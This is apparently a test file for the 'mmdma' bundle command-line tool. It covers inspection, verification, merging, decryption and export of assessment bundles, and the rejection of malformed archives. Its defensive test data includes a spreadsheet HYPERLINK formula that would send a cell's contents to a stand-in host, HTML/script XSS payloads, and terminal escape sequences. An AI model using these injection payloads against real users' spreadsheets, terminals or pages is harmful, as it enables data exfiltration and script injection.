/**
 * The command-line tool, run as people run it (`node bin/mmdma.mjs bundle …`, which is what
 * `npx mmdma` starts) on the fixture files: output on stdout, reasons on stderr, documented exit
 * codes, passphrases never from argv, and `merge` with the same result as importing in the app.
 */
import 'fake-indexeddb/auto';
import { execFile } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, describe, expect, it } from 'vitest';
import { main } from '../../src/cli/main';
import { readBundle } from '../../src/exchange/bundle/readBundle';
import { applyImport } from '../../src/exchange/importBundle';
import { loadAssessment } from '../../src/storage/loadAssessment';
import { ASSESSMENT_ID, OTHER_ASSESSMENT_ID, sampleBundle, sampleChanges } from './support/bundleTestKit';
import { openTestStore, unwrap } from './support/storageTestKit';
import { versionVector } from '../../src/core/merge/versionVector';

const run = promisify(execFile);
const FIXTURES = resolve('test/fixtures/bundles');
const PASSPHRASE_FILE = join(FIXTURES, 'passphrase.txt');
const PASSPHRASE = readFileSync(PASSPHRASE_FILE, 'utf8').replace(/\n$/, '');
const work = mkdtempSync(join(tmpdir(), 'mmdma-cli-'));
afterAll(() => rmSync(work, { recursive: true, force: true }));

const fx = (name: string) => join(FIXTURES, name);

/** Spawns the real tool; never rejects, returns exit code and output. */
async function cli(args: string[], env: Record<string, string> = {}) {
  try {
    const { stdout, stderr } = await run(process.execPath, ['bin/mmdma.mjs', ...args], { env: { ...process.env, MMDMA_PASSPHRASE: '', ...env }, encoding: 'utf8' });
    return { code: 0, stdout, stderr };
  } catch (error) {
    const e = error as { code: number; stdout: string; stderr: string };
    return { code: e.code, stdout: e.stdout, stderr: e.stderr };
  }
}

/** The same tool in this process (fast), for the many small cases. */
async function inProcess(args: string[], env: Record<string, string> = {}) {
  let stdout = '';
  let stderr = '';
  const code = await main(args, { stdout: (t) => (stdout += t), stderr: (t) => (stderr += t), env, cwd: process.cwd() });
  return { code, stdout, stderr };
}

describe('mmdma bundle (spawned)', () => {
  it.concurrent('inspect prints the manifest and counts', async () => {
    const out = await cli(['bundle', 'inspect', fx('valid.mmdma.zip')]);
    expect(out.code).toBe(0);
    expect(out.stderr).toBe('');
    expect(out.stdout).toMatch(/Assessment: +MMDMA Armenia 2022 \(01900000-0000-7000-8000-000000000001\)/);
    expect(out.stdout).toMatch(/Created: +2022-10-03T18:00:00\.000Z by Anna Petrosyan \(device a1a1a1a1a1a1a1a1\)/);
    expect(out.stdout).toMatch(/Changes: +39 \(assessment 9, assessor 4, observation 10, rating 8, attachment 8\)/);
    expect(out.stdout).toMatch(/Attachments: +1 \(63 bytes\)/);
  });

  it.concurrent('verify fails with a non-zero exit and the reason on stderr', async () => {
    const out = await cli(['bundle', 'verify', fx('zip-bomb-ratio.mmdma.zip')]);
    expect(out.code).toBe(1);
    expect(out.stdout).toBe('');
    expect(out.stderr).toMatch(/refused \(zip-bomb\): "changes\/000002\.ndjson" would inflate 1028×/);
  });

  it.concurrent('verify of an encrypted bundle asks for the passphrase, takes it from a file or the environment, and says when it is wrong', async () => {
    const none = await cli(['bundle', 'verify', fx('encrypted.mmdma.zip')]);
    expect(none.code).toBe(3);
    expect(none.stderr).toMatch(/needs-passphrase.*--passphrase-file/);
    const fromFile = await cli(['bundle', 'verify', '--passphrase-file', PASSPHRASE_FILE, fx('encrypted.mmdma.zip')]);
    expect(fromFile).toMatchObject({ code: 0, stderr: '' });
    expect(fromFile.stdout).toMatch(/OK — bundle .* every encrypted chunk authenticated/);
    const fromEnv = await cli(['bundle', 'verify', fx('encrypted.mmdma.zip')], { MMDMA_PASSPHRASE: PASSPHRASE });
    expect(fromEnv.code).toBe(0);
    const wrong = await cli(['bundle', 'verify', fx('encrypted.mmdma.zip')], { MMDMA_PASSPHRASE: 'not it at all' });
    expect(wrong.code).toBe(3);
    expect(wrong.stderr).toMatch(/wrong-passphrase/);
  });

  it.concurrent('merge writes one bundle that verifies, and decrypt writes a plain copy with a warning', async () => {
    const merged = join(work, 'merged.mmdma.zip');
    const out = await cli(['bundle', 'merge', fx('valid.mmdma.zip'), fx('valid-b.mmdma.zip'), '-o', merged, '--as', 'Lead']);
    expect(out.code).toBe(0);
    expect(out.stdout).toMatch(/Merged 2 bundle\(s\) of "MMDMA Armenia 2022" into .*merged\.mmdma\.zip/);
    expect((await cli(['bundle', 'verify', merged])).code).toBe(0);
    const again = await cli(['bundle', 'merge', fx('valid.mmdma.zip'), '-o', merged]);
    expect(again.code).toBe(4);
    expect(again.stderr).toMatch(/exists; choose another name or add --force/);

    const plain = join(work, 'decrypted.mmdma.zip');
    const decrypted = await cli(['bundle', 'decrypt', fx('encrypted.mmdma.zip'), '-o', plain, '--passphrase-file', PASSPHRASE_FILE]);
    expect(decrypted.code).toBe(0);
    expect(decrypted.stderr).toMatch(/holds the interview notes in clear text/);
    const inspected = await cli(['bundle', 'inspect', plain]);
    expect(inspected.stdout).toMatch(/Encrypted: +no/);
    expect(inspected.stdout).toMatch(/Attachments: +2/);
  });

  it.concurrent('export writes ratings as CSV that a spreadsheet cannot execute', async () => {
    const out = await cli(['bundle', 'export', fx('html-notes.mmdma.zip'), '--format', 'csv', '--only', 'ratings']);
    expect(out.code).toBe(0);
    const lines = out.stdout.replace(/^\uFEFF/, '').split('\r\n');
    expect(lines[0]).toBe('ratingId,assessor,assessorId,indicatorId,trackId,level,rationale,evidenceCount,evidenceIds,lastChanged');
    expect(lines[1]).toContain(`"'=HYPERLINK(""http://example.invalid/?""&A1,""click"")"`);
    expect(lines[1]).toContain('Anna Petrosyan');
  });

  it.concurrent('never takes a passphrase on the command line', async () => {
    const out = await cli(['bundle', 'verify', '--passphrase', 'secret', fx('encrypted.mmdma.zip')]);
    expect(out.code).toBe(2);
    expect(out.stderr).toMatch(/never taken on the command line.*process list/);
  });
});

describe('mmdma bundle (in process)', () => {
  it.each([
    ['not-a-zip.mmdma.zip', 'not-a-zip'],
    ['truncated.mmdma.zip', 'truncated'],
    ['checksum-mismatch.mmdma.zip', 'checksum-mismatch'],
    ['path-traversal.mmdma.zip', 'unsafe-path'],
    ['duplicate-entry.mmdma.zip', 'duplicate-entry'],
    ['proto-key.mmdma.zip', 'invalid-changes'],
    ['newer-format.mmdma.zip', 'newer-app'],
  ])('verify %s exits 1 with (%s)', async (file, code) => {
    const out = await inProcess(['bundle', 'verify', fx(file)]);
    expect(out.code).toBe(1);
    expect(out.stderr).toContain(`refused (${code})`);
    const json = await inProcess(['bundle', 'verify', '--json', fx(file)]);
    expect(JSON.parse(json.stdout)).toMatchObject({ ok: false, code });
  });

  it('inspect of an encrypted bundle without the passphrase shows only the clear header (exit 3)', async () => {
    const out = await inProcess(['bundle', 'inspect', fx('encrypted.mmdma.zip')]);
    expect(out.code).toBe(3);
    expect(out.stdout).toMatch(/Encrypted: +yes .*600000 iterations/);
    expect(out.stdout).toMatch(/hidden until the passphrase is given/);
    expect(out.stdout).not.toMatch(/Armenia|Anna/);
  });

  it('reports usage errors with exit code 2', async () => {
    expect((await inProcess(['bundle', 'frobnicate'])).code).toBe(2);
    expect((await inProcess(['bundle', 'verify'])).code).toBe(2);
    expect((await inProcess(['bundle', 'verify', '--bogus', 'x'])).code).toBe(2);
    expect((await inProcess(['bundle', 'export', fx('valid.mmdma.zip'), '--format', 'csv'])).stderr).toMatch(/add --only ratings or --only evidence/);
    expect((await inProcess(['bundle', '--help'])).code).toBe(0);
    expect((await inProcess(['bundle', 'verify', join(work, 'nope.zip')])).code).toBe(4);
  });

  it('prints names from a bundle without terminal control characters', async () => {
    const path = join(work, 'escape.mmdma.zip');
    writeFileSync(path, await sampleBundle({ createdBy: { kind: 'device', node: 'a1a1a1a1a1a1a1a1', assessor: 'Anna\u001b[2J\u001b[31m\u202eevil', assessorId: null } }));
    const out = await inProcess(['bundle', 'inspect', path]);
    expect(out.code).toBe(0);
    expect(out.stdout).toContain('Anna?[2J?[31m?evil');
    expect(out.stdout).not.toMatch(/[\u001b\u202e]/);
  });

  it('exports evidence as JSON with notes as plain text', async () => {
    const out = await inProcess(['bundle', 'export', fx('html-notes.mmdma.zip'), '--format', 'json', '--only', 'evidence']);
    const parsed = JSON.parse(out.stdout) as { evidence: Array<{ text: string; subTopics: string }> };
    expect(parsed.evidence[0]!.text).toBe('<script>alert("notes")</script><img src=x onerror="alert(1)"> Ministry said: <b>no</b> & "maybe"');
    expect(parsed.evidence[0]!.subTopics).toBe('6.5.2');
  });

  it('merge refuses bundles of different assessments (exit 5)', async () => {
    const other = join(work, 'other.mmdma.zip');
    const changes = sampleChanges().map((c) => (c.table === 'assessment' ? { ...c, id: OTHER_ASSESSMENT_ID } : c.field === 'assessmentId' ? { ...c, value: OTHER_ASSESSMENT_ID } : c));
    writeFileSync(other, await sampleBundle({ assessment: { id: OTHER_ASSESSMENT_ID, title: 'Eswatini 2024' }, changes, versionVector: versionVector(changes), blobs: [], blobsHeld: [] }));
    const out = await inProcess(['bundle', 'merge', fx('valid.mmdma.zip'), other, '-o', join(work, 'never.mmdma.zip')]);
    expect(out.code).toBe(5);
    expect(out.stderr).toMatch(/different assessments/);
  });

  it('merge gives what importing its inputs one by one gives, in either order', async () => {
    const ab = join(work, 'ab.mmdma.zip');
    const ba = join(work, 'ba.mmdma.zip');
    expect((await inProcess(['bundle', 'merge', fx('valid.mmdma.zip'), fx('valid-b.mmdma.zip'), '-o', ab])).code).toBe(0);
    expect((await inProcess(['bundle', 'merge', fx('valid-b.mmdma.zip'), fx('valid.mmdma.zip'), '-o', ba])).code).toBe(0);
    const [mergedAb, mergedBa] = await Promise.all([ab, ba].map(async (p) => unwrap(await readBundle(new Uint8Array(readFileSync(p))))));
    expect(mergedAb!.changes).toEqual(mergedBa!.changes);

    const later = Date.UTC(2022, 9, 5);
    const one = openTestStore({ seed: 3, label: 'one-by-one', start: later });
    const merged = openTestStore({ seed: 4, label: 'merged', start: later });
    try {
      for (const file of ['valid-b.mmdma.zip', 'valid.mmdma.zip']) unwrap(await applyImport(one.store, unwrap(await readBundle(new Uint8Array(readFileSync(fx(file))))))); 
      unwrap(await applyImport(merged.store, mergedAb!));
      const a = unwrap(await loadAssessment(one.db, ASSESSMENT_ID));
      const b = unwrap(await loadAssessment(merged.db, ASSESSMENT_ID));
      expect(b.records).toEqual(a.records);
      expect(b.assessment).toEqual(a.assessment);
      expect(a.records.rating).toHaveLength(2);
      expect(a.records.observation[0]!.text).toMatch(/corrected after the call/);
      expect(await merged.db.blobs.count()).toBe(1);
    } finally {
      await one.db.delete();
      await merged.db.delete();
    }
  });
});
